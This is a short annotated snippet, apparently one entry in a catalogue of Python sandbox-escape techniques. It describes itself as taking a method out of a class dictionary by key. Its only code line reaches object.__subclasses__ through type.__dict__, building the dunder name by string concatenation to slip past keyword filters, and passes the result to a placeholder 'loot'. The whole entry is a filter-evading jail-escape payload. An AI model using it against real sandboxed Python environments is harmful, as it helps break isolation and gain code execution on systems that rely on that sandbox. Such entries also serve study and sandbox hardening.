# aim: take a method out of a class dictionary by key
# mechanism: type.__dict__ and a string subscript
# language: builtins
# reason: a class dictionary hands out every descriptor by computed name
# jail: process
# plain: loot

loot(type.__dict__["__subcl" + "asses__"](object))
